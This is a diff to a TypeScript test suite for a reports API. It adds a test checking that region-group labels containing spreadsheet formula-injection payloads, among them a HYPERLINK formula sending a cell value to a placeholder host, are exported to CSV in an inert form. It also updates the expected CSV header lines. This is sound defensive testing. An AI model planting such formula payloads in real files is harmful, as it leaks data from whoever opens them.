@@ -259,6 +259,29 @@ describe('reports', () => {
     expect(n).toBeGreaterThanOrEqual(2);
   });
 
+  it('writes a hostile region-group label inert into every line of the CSV, description block included', async () => {
+    const hostile = 'North,=HYPERLINK("http://x/?q="&A2),-2+3';
+    const put = await http(`${api.url}/api/v1/region-groups/kz_hostile`, {
+      method: 'PUT',
+      body: { country: 'KZ', labelEn: hostile, labelRu: 'Юг;=1+1;"@SUM(A1)"', members: ['KZ-75', 'KZ-35'] },
+      token: admin.accessToken,
+    });
+    expect(put.status).toBe(200);
+    for (const [lang, label] of [['en', hostile], ['ru', 'Юг;=1+1;"@SUM(A1)"']] as const) {
+      const report = await request(researcher, { k: 5, lang, regionGroups: ['kz_hostile'], compareBy: 'region_group' });
+      const csv = await (await fetch(`${api.url}/api/v1/reports/${report.id}/download?format=csv`, { headers: { authorization: `Bearer ${researcher.accessToken}` } })).text();
+      // Read as a spreadsheet that ignores quoting would: every line split at commas and semicolons.
+      const cells = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[,;]/)).map((cell) => cell.replace(/^[ "]+/, ''));
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      // The label is there, in the filters line and in the comparison's rows, made inert.
+      const inert = lang === 'en' ? `North,'=HYPERLINK("http://x/?q="&A2),'-2+3` : `Юг;'=1+1;"'@SUM(A1)"`;
+      const quoted = `"${inert.replace(/"/g, '""')}"`;
+      expect([label, csv.split('\n').some((l) => l.startsWith('# ') && l.endsWith(`: ${quoted}`))]).toEqual([label, true]);
+      const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
+      expect([label, rows.some((r) => r[0] === 'compare_region_group_total' && r[2] === inert)]).toEqual([label, true]);
+    }
+  });
+
   it('exports CSV, XLSX and SVG that parse, with headers and labels', async () => {
     const report = await request(researcher, { k: 5, lang: 'ru', countries: ['KZ', 'KG'] });
     const download = (format: string) => fetch(`${api.url}/api/v1/reports/${report.id}/download?format=${format}`, { headers: { authorization: `Bearer ${researcher.accessToken}` } });
@@ -266,9 +289,10 @@ describe('reports', () => {
     const csv = await (await download('csv')).text();
     // A header block says what the figures are, in the report's language; readers skip it as comments.
     const block = csv.split('\n').filter((l) => l.startsWith('# '));
-    expect(block.join('\n')).toContain('Страны: Киргизия, Казахстан');
+    // Each value is a CSV cell, quoted and neutralised like the data.
+    expect(block.join('\n')).toContain('Страны: "Киргизия, Казахстан"');
     expect(block.join('\n')).toMatch(/период: все задокументированные случаи/);
-    expect(block.join('\n')).toMatch(/правила раскрытия: Значения меньше 5 скрыты; каждое значение искажено не более чем на ±4/);
+    expect(block.join('\n')).toMatch(/правила раскрытия: "Значения меньше 5 скрыты; каждое значение искажено не более чем на ±4/);
     expect(block.join('\n')).toMatch(/данные извлечены: \d{4}-\d\d-\d\dT/);
     expect(block.join('\n')).toMatch(/версия Casebook: \d+\.\d+\.\d+/);
     const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
